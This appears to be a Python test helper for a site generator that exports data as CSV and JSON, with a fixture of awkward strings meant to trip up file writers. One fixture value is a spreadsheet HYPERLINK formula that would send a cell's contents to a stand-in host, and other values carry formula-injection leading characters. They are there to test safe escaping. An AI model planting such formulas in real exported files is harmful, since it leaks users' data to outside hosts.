"""The data of a site as files, written and read back."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterable, Mapping
from dataclasses import replace
from pathlib import Path, PurePosixPath
from typing import Any

from generator.model import Site
from generator.publish.data.descriptor import files, files_of
from generator.publish.data.package import Package, site_package, story_package
from tests.publish.sample import site

FORMULA = '=HYPERLINK("https://x.example/?"&A1, "prize")'
ODD = (
    FORMULA,
    "+44 and “more”, he said",
    "-1",
    "@desk",
    "'=1+1",
    "''@twice",
    "'tis fine",
    'a "quoted", thing',
    "two\nlines",
    "windows\r\nlines",
    "tab\there",
    "＝wide",
    "مرحبا, 世界, 𝕏",
    "NA",
    "null",
    " led by a blank",
)


def packages(whole: Site) -> tuple[Package, ...]:
    """The package of each story, and that of what belongs to none."""
    return (*(story_package(whole, each) for each in whole.stories), site_package(whole))


def tables(whole: Site) -> dict[PurePosixPath, str]:
    """Every file of the data."""
    found = packages(whole)
    own = [files_of(whole, package) for package in found]
    return {path: text for part in (*own, files(whole, found[-1])) for path, text in part.items()}


def written(whole: Site, root: Path) -> Path:
    """The files on disk; returns their folder."""
    for path, text in tables(whole).items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_bytes(text.encode())
    return root / "data"


def rows(files: Mapping[PurePosixPath, str], path: str) -> list[dict[str, Any]]:
    """The rows of a JSON table, by its path below `data/`; None is what they leave out."""
    place = PurePosixPath("data", path)
    names = files[place.with_suffix(".csv")].partition("\n")[0].split(",")
    return [dict.fromkeys(names) | row for row in json.loads(files[place])]


def cells(text: str) -> list[dict[str, str]]:
    """The rows of a CSV table as they are written."""
    return list(csv.DictReader(text.splitlines(keepends=True), strict=True))


def odd(values: Iterable[str] = ODD) -> Site:
    """The fixture's site with texts that files trip over."""
    whole = site()
    (story,) = whole.stories
    texts = tuple(values)
    coverage = tuple(
        replace(
            one,
            article=replace(
                one.article,
                title=texts[n % len(texts)],
                authors=texts,
                rights=replace(one.article.rights, holder=texts[-1 - n % len(texts)]),
            ),
        )
        for n, one in enumerate(story.coverage)
    )
    told = replace(story.story, selection="\n".join(texts), tags=texts, title=texts[0])
    return replace(whole, stories=(replace(story, story=told, coverage=coverage),))
